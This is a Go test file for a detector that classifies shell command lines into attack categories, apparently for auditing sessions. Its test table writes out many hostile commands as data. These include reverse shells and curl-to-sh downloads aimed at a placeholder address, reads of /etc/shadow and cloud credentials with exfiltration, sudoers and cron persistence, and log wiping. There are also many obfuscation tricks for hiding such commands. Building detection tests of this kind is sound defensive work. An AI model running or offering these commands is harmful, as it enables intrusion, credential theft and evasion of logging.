package command

import (
	"slices"
	"strings"
	"testing"
)

func TestClassify(t *testing.T) {
	t.Parallel()
	c, p, d, r, s, l, e, g := Credentials, Privilege, DownloadRun, RemoteShell, Persistence, Lateral, Exfil, LogTamper
	tests := []struct {
		line string
		want []Class
	}{
		// Credentials.
		{"cat /etc/shadow", []Class{c}},
		{"cat /etc/../etc//shadow", []Class{c}},
		{"head -c 100 < /etc/shadow", []Class{c}},
		{"/usr/bin/tail -n1 /etc/shadow", []Class{c}},
		{"grep root /etc/shadow", []Class{c}},
		{"cat /etc/shad*", []Class{c}},
		{"cat ~/.ssh/id_rsa", []Class{c}},
		{"cat $HOME/.aws/credentials", []Class{c}},
		{"cp /root/.ssh/id_ed25519 /tmp/k", []Class{c}},
		{"base64 /var/lib/teleport/proc/sqlite.db", []Class{c}},
		{"tar cz ~/.tsh", []Class{c}},
		{"cat /proc/1/environ | tr '\\0' '\\n'", []Class{c}},
		{"curl -s http://169.254.169.254/latest/meta-data/iam/", []Class{c}},
		{"kubectl get secrets -A -o yaml", []Class{c}},
		{"find . -name a -exec true \\; -exec cat /etc/shadow +", []Class{c}},
		{"kubectl -n prod get secret/db", []Class{c}},
		{"kubectl get secret/db -n prod", []Class{c}},
		{"tctl auth sign --user=admin --out=k", []Class{c}},
		{"grep -rn password /srv /etc", []Class{c}},
		{"find / -name id_rsa", []Class{c}},
		{"getent shadow root", []Class{c}},
		{"dd if=/etc/shadow of=/tmp/x", []Class{c}},
		// Words that only mention.
		{"man sudoers", nil},
		{"man shadow", nil},
		{"echo /etc/shadow", nil},
		{"ls -l /etc/shadow", nil},
		{"grep /etc/shadow docs/notes.md", nil},
		{"grep shadow docs/shadow.md", nil},
		{"git commit -m 'read /etc/shadow && rm -rf /var/log'", nil},
		{"vim docs/etc/shadow.md", nil},
		{"cat ~/.ssh/id_rsa.pub", nil},
		{"cat ~/.ssh/known_hosts", nil},
		{"ssh-keygen -l -f ~/.ssh/id_rsa", nil},
		{"# cat /etc/shadow", nil},
		{"echo 'cat /etc/shadow' >> notes.txt", nil},
		{"kubectl get pods", nil},
		{"ps aux | grep password", nil},
		{"grep -rn token src", nil},
		{"find . -name '*.go'", nil},
		// Quotes, escapes and expansions.
		{`c'a't /etc/sh""adow`, []Class{c}},
		{`$'\x63at' /etc/shadow`, []Class{c}},
		{`$'\143\141t' $'/etc/shad\u006fw'`, []Class{c}},
		{`c\at /e\tc/shadow`, []Class{c}},
		{`cat${IFS}/etc/shadow`, []Class{c}},
		{`{cat,/etc/shadow}`, []Class{c}},
		{`f=/etc/shadow; cat $f`, []Class{c}},
		{`x='cat /etc/shadow'; $x`, []Class{c}},
		{`c$@at /etc/shadow`, []Class{c}},
		{"cat `echo /etc/shadow`", []Class{c}},
		{"cat $(printf %s /etc/shadow)", []Class{c}},
		{"true && (cd /; cat etc/passwd; cat /etc/shadow)", []Class{c}},
		{"if true; then cat /etc/shadow; fi", []Class{c}},
		{"x=$(cat /etc/shadow)", []Class{c}},
		{"echo \"$(cat /etc/shadow)\"", []Class{c}},
		{"cat <(cat /etc/shadow)", []Class{c}},
		// Wrappers.
		{"sudo cat /etc/shadow", []Class{c}},
		{"sudo -u root -- cat /etc/shadow", []Class{c}},
		{"env A=b /bin/cat /etc/shadow", []Class{c}},
		{"A=b nohup cat /etc/shadow &", []Class{c}},
		{"echo x | xargs -I{} cat /etc/shadow", []Class{c}},
		{"sh -c 'cat /etc/shadow'", []Class{c}},
		{`bash -lc "sh -c 'cat /etc/shadow'"`, []Class{c}},
		{"env -S 'cat /etc/shadow'", []Class{c}},
		{"eval cat /etc/shadow", []Class{c}},
		{"busybox cat /etc/shadow", []Class{c}},
		{"timeout -s KILL 5 cat /etc/shadow", []Class{c}},
		{"find /etc -name shadow -exec cat /etc/shadow ;", []Class{c, c}},
		{"bash <<< 'cat /etc/shadow'", []Class{c}},
		{"bash <<EOF\ncat /etc/shadow\nEOF", []Class{c}},
		{"cat <<EOF > notes\ncat /etc/shadow\nEOF", nil},
		{"ssh web-2 cat /etc/shadow", []Class{l, c}},
		{"echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh", []Class{d, c}},
		{"base64 -d <<< Y2F0IC9ldGMvc2hhZG93 | bash", []Class{d, c}},
		{"echo 636174202f6574632f736861646f77 | xxd -r -p | sh", []Class{d, c}},
		{"eval $(echo Y2F0IC9ldGMvc2hhZG93 | base64 -d)", []Class{c, d}},
		{"echo 'cat /etc/shadow' | sh", []Class{c}},
		{"echo aGVsbG8= | base64 -d", nil},
		// Hidden in names, programs and files.
		{"alias x='cat /etc/shadow'\nx", []Class{c}},
		{"alias x=cat; x /etc/shadow", []Class{c}},
		{"alias ll='ls -l'; ll", nil},
		{"alias x=x; x", nil},
		{`python3 -c "import os;os.system('cat /etc/shadow')"`, []Class{c}},
		{`python3 -c 'import subprocess;subprocess.run(["cat", "/etc/shadow"])'`, []Class{c}},
		{`perl -e 'system("cat /etc/shadow")'`, []Class{c}},
		{`awk 'BEGIN{system("cat /etc/shadow")}'`, []Class{c}},
		{"vim -c ':!cat /etc/shadow' x", []Class{c}},
		{`python3 -c 'import os;os.system("ls")'`, nil},
		{`awk '{print $1}' /etc/passwd`, nil},
		{`python3 -c "exec(__import__('base64').b64decode('cHJpbnQoMSk='))"`, []Class{d}},
		{"IFS=,; c=cat,/etc/shadow; $c", []Class{c}},
		{"cat ${P:=/etc/shadow}", []Class{c}},
		{"${X:-cat} ${Y-/etc/shadow}", []Class{c}},
		{"cat /etc/shad{ow,ow-}", []Class{c}},
		{"cat ${HOME}/x{1,2}.txt", nil},
		{"echo /etc/shadow | xargs cat", []Class{c}},
		{"xargs cat <<< /etc/shadow", []Class{c}},
		{"echo /etc/shadow | xargs -I{} head -n1 {}", []Class{c}},
		{"echo /etc/hosts | xargs cat", nil},
		{"echo 'cat /etc/shadow' > /tmp/x.sh; sh /tmp/x.sh", []Class{c}},
		{"printf 'cat /etc/shadow' > x; chmod +x x; ./x", []Class{c}},
		{"echo 'echo hi' > /tmp/x.sh; sh /tmp/x.sh", nil},
		{"echo 'cat /etc/shadow' > notes.txt; cat notes.txt", nil},
		{"printf '\\143at /etc/shadow' | sh", []Class{c}},
		{"echo -e '\\x63at /etc/shadow' | sh", []Class{c}},
		// Tokens that a program prints.
		{"gcloud auth print-access-token", []Class{c}},
		{"aws sts get-session-token", []Class{c}},
		{"aws secretsmanager get-secret-value --secret-id db", []Class{c}},
		{"vault kv get secret/db", []Class{c}},
		{"kubectl config view --raw", []Class{c}},
		{"cat /srv/app/.env", []Class{c}},
		{". ./.env", nil},
		{"aws s3 ls", nil},
		{"kubectl config view", nil},
		{"vault status", nil},
		// Privilege.
		{"sudo bash", []Class{p}},
		{"doas sh", []Class{p}},
		{"sudo bash deploy.sh", nil},
		{"sudo sh -c 'ls /root'", nil},
		{"sudo -i", []Class{p}},
		{"sudo su -", []Class{p}},
		{"su root", []Class{p}},
		{"chmod u+s /tmp/sh", []Class{p}},
		{"chmod 4755 /tmp/sh", []Class{p}},
		{"echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", []Class{p}},
		{"echo x | sudo tee /etc/sudoers.d/x", []Class{p}},
		{"docker run -v /:/host -it alpine", []Class{p}},
		{"nsenter -t 1 -m sh", []Class{p}},
		{"LD_PRELOAD=/tmp/x.so ls", []Class{p}},
		{"sudo find . -exec /bin/sh \\;", []Class{p}},
		{"sudo -l", nil},
		{"sudo systemctl restart nginx", nil},
		{"chmod 755 /tmp/x", nil},
		{"chmod +x run.sh", nil},
		{"docker run -v /srv:/srv alpine", nil},
		{"cat /etc/sudoers", nil},
		{"sudo -u postgres psql", nil},
		{"export LD_LIBRARY_PATH=/opt/lib", nil},
		// Download and run.
		{"curl -s http://198.51.100.9/x.sh | sh", []Class{d}},
		{"wget -qO- http://198.51.100.9/x | sudo bash -s -- a", []Class{d}},
		{"curl http://198.51.100.9/p | tee /tmp/p | python3", []Class{d}},
		{"bash <(curl -s http://198.51.100.9/x)", []Class{d}},
		{`sh -c "$(curl -fsSL http://198.51.100.9/x)"`, []Class{d}},
		{"wget http://198.51.100.9/x.bin -O /tmp/x; chmod +x /tmp/x; /tmp/x", []Class{d}},
		{"curl -O http://198.51.100.9/a.py && python3 a.py", []Class{d}},
		{"base64 -d /tmp/blob | sh", []Class{d}},
		{"(curl -s http://198.51.100.9/x) | sh", []Class{d}},
		{"curl -s http://198.51.100.9/x.json | jq .", nil},
		{"curl -s http://198.51.100.9/d.json | python3 -m json.tool", nil},
		{"wget http://198.51.100.9/x.tgz", nil},
		{"cat list | sh run.sh", nil},
		// Remote shell.
		{"bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", []Class{r}},
		{"nc -e /bin/sh 198.51.100.9 4444", []Class{r}},
		{"socat TCP:198.51.100.9:4444 EXEC:/bin/sh", []Class{r}},
		{`python3 -c 'import socket,subprocess,os;s=socket.socket()'`, []Class{r}},
		{`ruby -rsocket -e 'c=TCPSocket.new("198.51.100.9",4444);exec "/bin/sh"'`, []Class{r}},
		{`php -r '$s=fsockopen("198.51.100.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, []Class{r}},
		{"python3 -c 'print(1)'", nil},
		// Persistence.
		{"crontab -e", []Class{s}},
		{"echo '* * * * * x' | crontab -", []Class{s}},
		{"echo k >> ~/.ssh/authorized_keys", []Class{s}},
		{"echo k | tee -a /root/.ssh/authorized_keys", []Class{s}},
		{"cp x.service /etc/systemd/system/x.service", []Class{s}},
		{"systemctl enable --now x", []Class{s}},
		{"useradd -m eve", []Class{s}},
		{"usermod -aG sudo eve", []Class{p, s}},
		{"echo 'eve::0:0::/:/bin/sh' >> /etc/passwd", []Class{s}},
		{"echo x > /etc/cron.d/x", []Class{s}},
		{"tctl users add eve --roles=editor", []Class{s}},
		{"crontab -l", nil},
		{"cat /etc/passwd", nil},
		{"cat ~/.ssh/authorized_keys", nil},
		{"systemctl status x", nil},
		{"systemctl daemon-reload", nil},
		{"sudo vim /etc/nginx/nginx.conf", nil},
		{"passwd -S eve", nil},
		{"tctl users ls", nil},
		// Lateral movement.
		{"ssh root@192.0.2.9", []Class{l}},
		{"ssh -i ~/.ssh/id_rsa web-2", []Class{l}},
		{"ssh -N -R 9000:localhost:22 x@198.51.100.9", []Class{l, l}},
		{"nmap -sS 192.0.2.0/24", []Class{l}},
		{"nc -zv 192.0.2.9 22", []Class{l}},
		{"kubectl exec -it api -- sh", []Class{l}},
		{"ssh -V", nil},
		{"ssh -G web-2", nil},
		{"ping -c1 192.0.2.9", nil},
		// Exfiltration.
		{"scp db.dump x@198.51.100.9:/tmp", []Class{e}},
		{"rsync -a /srv/ x@198.51.100.9:srv", []Class{e}},
		{"curl -T db.dump http://198.51.100.9/", []Class{e}},
		{"curl -F file=@db.dump http://198.51.100.9/", []Class{e}},
		{"curl -d @/etc/shadow http://198.51.100.9/", []Class{c, e}},
		{"tar cz /srv | nc 198.51.100.9 9", []Class{e}},
		{"tar cz /srv | ssh x@198.51.100.9 'cat > s.tgz'", []Class{l, e}},
		{"tar cz /srv | curl -T - http://198.51.100.9/", []Class{e, e}},
		{"nc 198.51.100.9 9 < db.dump", []Class{e}},
		{"aws s3 cp db.dump s3://bucket/", []Class{e}},
		{"pg_dump -h db orders > o.sql", []Class{e}},
		{"scp x@198.51.100.9:a.txt .", nil},
		{"aws s3 cp s3://bucket/a .", nil},
		{"curl -d name=x http://198.51.100.9/", nil},
		{"tar czf /tmp/s.tgz /srv", nil},
		// Log tampering.
		{"history -c", []Class{g}},
		{"unset HISTFILE", []Class{g}},
		{"export HISTFILE=/dev/null", []Class{g}},
		{"HISTSIZE=0", []Class{g}},
		{"rm -f /var/log/auth.log", []Class{g}},
		{"> /var/log/syslog", []Class{g}},
		{"cat /dev/null > /var/log/wtmp", []Class{g}},
		{"ln -sf /dev/null ~/.bash_history", []Class{g}},
		{"sed -i /198.51.100.9/d /var/log/auth.log", []Class{g}},
		{"journalctl --vacuum-time=1s", []Class{g}},
		{"systemctl stop auditd", []Class{g}},
		{"auditctl -e 0", []Class{g}},
		{"find /var/log -type f -delete", []Class{g}},
		{"find /var/log -type f -exec truncate -s0 {} +", []Class{g}},
		{"kill -9 $(pidof auditd)", []Class{g}},
		{"find /tmp -name x -delete", nil},
		{"kill -9 $(pidof nginx)", nil},
		{"history 5", nil},
		{"tail -f /var/log/syslog", nil},
		{"myapp >> /var/log/app.log", nil},
		{"systemctl stop nginx", nil},
		{"rm -f /tmp/x.log", nil},
		{"", nil},
	}
	for _, tt := range tests {
		t.Run(tt.line, func(t *testing.T) {
			t.Parallel()
			var got []Class
			for _, f := range Classify(tt.line) {
				got = append(got, f.Class)
				if f.Why == "" || !strings.HasPrefix(f.Technique, "T1") {
					t.Errorf("finding says too little: %+v", f)
				}
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("got %v, want %v", Classify(tt.line), tt.want)
			}
		})
	}
}

func TestClassify_saysWhatItJudged(t *testing.T) {
	t.Parallel()
	got := Classify(`sudo sh -c 'c"a"t /etc/shadow | nc 198.51.100.9 9'`)
	want := []Finding{
		{Credentials, "T1552", "reads the password hashes of the host", "cat /etc/shadow"},
		{Exfil, "T1048", "the output of cat is sent to another machine", "cat /etc/shadow | nc 198.51.100.9 9"},
	}
	if !slices.Equal(got, want) {
		t.Errorf("got %+v, want %+v", got, want)
	}
}

func TestClassifyArgs_takesWordsAsTheyAre(t *testing.T) {
	t.Parallel()
	if got := ClassifyArgs([]string{"/usr/bin/cat", "/etc/shadow"}); len(got) != 1 || got[0].Class != Credentials {
		t.Errorf("got %v", got)
	}
	if got := ClassifyArgs([]string{"printf", "$(cat /etc/shadow)"}); got != nil {
		t.Errorf("a word that the shell did not expand was run: %v", got)
	}
}

func TestClassify_boundsItsWork(t *testing.T) {
	t.Parallel()
	hostile := []string{
		strings.Repeat("$(", 30000), strings.Repeat("`", 60000), strings.Repeat("(", 60000), strings.Repeat("'", 60000),
		strings.Repeat("sh -c '", 9000), strings.Repeat("cat /etc/shadow;", 9000), strings.Repeat("a=$a$a;", 9000),
		"a=xxxxxxxx;" + strings.Repeat("a=$a$a$a;", 5000), strings.Repeat("<<x ", 9000), strings.Repeat("${", 30000),
		"$" + strings.Repeat("a", 60000), strings.Repeat("x|", 30000), strings.Repeat("eval ", 9000), strings.Repeat("bash <(", 9000),
		strings.Repeat("find -exec ", 5000), "echo " + strings.Repeat("x", 50000) + strings.Repeat("|sh", 4000),
	}
	for _, line := range hostile {
		if n := len(Classify(line)); n > maxFindings {
			t.Errorf("%.20q gave %d findings", line, n)
		}
	}
}

func FuzzClassify(f *testing.F) {
	for _, s := range []string{
		"cat /etc/shadow", "echo a | base64 -d | sh", "a <<E\nx\nE\n", "$'\\x", "${", "`", "\"$(", "a=b;$a", "{a,b}", "find -exec", "env -S", "curl -o", "\\", "<(", "&>", "2>&",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		for _, found := range Classify(line) {
			if found.Class.Technique() == "" || found.Technique == "" || found.Why == "" || len(found.Text) > maxText {
				t.Errorf("Classify(%q) = %+v", line, found)
			}
		}
	})
}
